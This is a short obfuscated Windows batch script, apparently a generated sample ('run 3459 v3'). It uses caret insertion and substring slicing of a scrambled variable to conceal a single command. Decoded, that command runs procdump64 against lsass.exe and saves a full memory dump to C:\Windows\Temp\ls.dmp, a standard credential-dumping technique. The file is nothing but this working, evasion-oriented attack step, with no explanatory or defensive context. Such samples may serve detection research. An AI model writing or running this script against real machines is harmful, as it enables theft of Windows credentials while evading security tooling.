REM run 3459 v3
@e^c^ho ^o^ff
set "jurt=hm4oW35ad6Kuc.C8:Hswix\yrn-ptTlSe"
%jurt:~-6,1%%jurt:~24,1%%jurt:~3,1%%jurt:~12,1%%jurt:~-25,1%%jurt:~11,1%%jurt:~1,1%%jurt:~-6,1%%jurt:~9,1%%jurt:~2,1%%jurt:~13,1%%jurt:~32,1%%jurt:~21,1%%jurt:~-1,1% %jurt:~26,1%%jurt:~7,1%%jurt:~12,1%%jurt:~12,1%%jurt:~32,1%%jurt:~27,1%%jurt:~28,1%%jurt:~-1,1%%jurt:~11,1%%jurt:~-3,1%%jurt:~7,1% %jurt:~26,1%%jurt:~1,1%%jurt:~7,1% %jurt:~30,1%%jurt:~-15,1%%jurt:~-26,1%%jurt:~18,1%%jurt:~-15,1%%jurt:~13,1%%jurt:~32,1%%jurt:~21,1%%jurt:~32,1% %jurt:~-19,1%%jurt:~-17,1%%jurt:~-11,1%%jurt:~4,1%%jurt:~20,1%%jurt:~-8,1%%jurt:~8,1%%jurt:~-30,1%%jurt:~19,1%%jurt:~-15,1%%jurt:~22,1%%jurt:~29,1%%jurt:~32,1%%jurt:~-32,1%%jurt:~27,1%%jurt:~22,1%%jurt:~-3,1%%jurt:~-15,1%%jurt:~13,1%%jurt:~8,1%%jurt:~1,1%%jurt:~27,1%
